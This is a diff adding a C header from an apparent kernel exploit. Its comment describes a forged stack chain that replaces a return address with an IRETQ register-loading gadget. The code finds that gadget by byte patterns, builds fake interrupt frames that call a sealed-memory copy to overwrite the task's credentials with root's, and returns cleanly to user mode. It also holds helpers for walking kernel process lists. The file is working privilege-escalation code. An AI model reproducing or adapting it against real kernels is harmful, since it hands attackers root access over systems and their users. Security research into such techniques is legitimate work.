@@ -1,0 +1,98 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * forged_chain.h - what an attacker puts on a kernel stack in the place of a return address: the
+ * end of the kernel's own interrupt return, which loads every register from the stack. Its first
+ * frame calls the function that copies into sealed memory, with root's credentials and those of
+ * the stack's owner; its second goes back to user mode by the owner's own frame, as if the system
+ * call were over.
+ *
+ *	slot		the return address		-> POP..., IRETQ
+ *	slot + 8	registers			-> sealed_copy(own credentials, root's,
+ *size) slot + 184	sealed_copy's return address	-> POP..., IRETQ slot + 192	registers
+ *-> return_to_user
+ */
+#ifndef FORGED_CHAIN_H
+#define FORGED_CHAIN_H
+
+#include "attack.h"
+
+#define CHAIN_SIZE (8 + 176 + 8 + 176)
+#define FRAME_SIZE 176
+#define KERNEL_STACK_SIZE 0x4000
+#define KERNEL_CODE 0x08
+#define KERNEL_DATA 0x10
+#define FLAGS_INTERRUPTS_OFF 2
+
+/* In the order in which they are popped (struct arch_frame). */
+struct registers {
+	uint64_t r15, r14, r13, r12, bp, bx, di, si, dx, r10, r8, r9, cx, r11, ax;
+	uint64_t vector, code, ip, cs, flags, sp, ss;
+};
+_Static_assert(sizeof(struct registers) == FRAME_SIZE, "as struct arch_frame");
+
+/* POP_CALLEE_AND_ARGUMENTS ... addq $16, %rsp; iretq in arch/x86_64/entry.S. */
+static inline uint64_t find_register_loader(void)
+{
+	const uint64_t start = symbol("exception_entry");
+
+	for (uint64_t at = start; at < start + 512; at++)
+		if (peek(at) == 0x5c415d415e415f41 && peek(at + 8) == 0x415a415a5e5f5b5d &&
+		    peek32(at + 24) == 0x4810c483 && peek8(at + 28) == 0xcf)
+			return at;
+	say_part("attacker: there is no loader of registers\n");
+	leave(9);
+}
+
+static inline void put_registers(uint64_t *words, uint64_t ip, uint64_t sp)
+{
+	struct registers *registers = (struct registers *)words;
+
+	*registers = (struct registers){
+		.ip = ip,
+		.cs = KERNEL_CODE,
+		.flags = FLAGS_INTERRUPTS_OFF,
+		.sp = sp,
+		.ss = KERNEL_DATA,
+	};
+}
+
+/* The words that go to SLOT and above, on the stack of TASK that ends at TOP. */
+static inline void make_chain(uint64_t words[CHAIN_SIZE / 8], uint64_t slot, uint64_t task,
+			      uint64_t top)
+{
+	const uint64_t loader = find_register_loader();
+	struct registers *call = (struct registers *)(words + 1);
+
+	words[0] = loader;
+	put_registers(words + 1, symbol("sealed_copy"), slot + 8 + FRAME_SIZE);
+	call->di = own_credentials(task);
+	call->si = symbol("kernel_credentials");
+	call->dx = member("credentials.SIZE");
+	words[1 + FRAME_SIZE / 8] = loader;
+	put_registers(words + 2 + FRAME_SIZE / 8, symbol("return_to_user"), top - FRAME_SIZE);
+}
+
+static inline bool is_kernel_text(uint64_t address)
+{
+	static uint64_t start, end;
+
+	if (!start) {
+		start = symbol("text_start");
+		end = symbol("text_end");
+	}
+	return address >= start && address < end;
+}
+
+/* By the number that fork returned, among the children of the process of TASK. */
+static inline uint64_t child_task(uint64_t task, long id)
+{
+	const uint64_t own = peek(task + member("task.process"));
+	const uint64_t head = own + member("process.children"), sibling = member("process.sibling");
+
+	for (uint64_t link = peek(head); link != head; link = peek(link))
+		if (peek32(link - sibling + member("process.id")) == (uint32_t)id)
+			return peek(link - sibling + member("process.leader"));
+	return 0;
+}
+
+#endif
